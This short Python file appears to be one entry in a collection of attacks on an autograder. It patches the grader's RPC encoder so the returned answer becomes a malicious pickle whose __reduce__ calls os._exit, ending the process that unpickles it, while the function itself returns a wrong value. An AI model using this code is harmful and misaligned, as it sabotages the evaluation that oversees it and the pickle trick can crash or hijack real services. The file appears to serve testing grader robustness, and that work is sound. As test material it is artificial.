# attack: a pickle on the line
# idea: The answer is written as a pickle that ends whoever opens it.
# place: any
# outcome: crashed

from autograder.rpc.codec import Encoder

honest = Encoder.finish


def _answer_with(forge):
    Encoder.finish = lambda self, values, *rest: honest(self, forge(values), *rest)


import os
import pickle


class Exit:
    def __reduce__(self):
        return os._exit, (0,)


def FUNCTION(*args, **kwargs):
    _answer_with(lambda values: ["ok", ["pickle", pickle.dumps(Exit())], values[2]])
    return WRONG
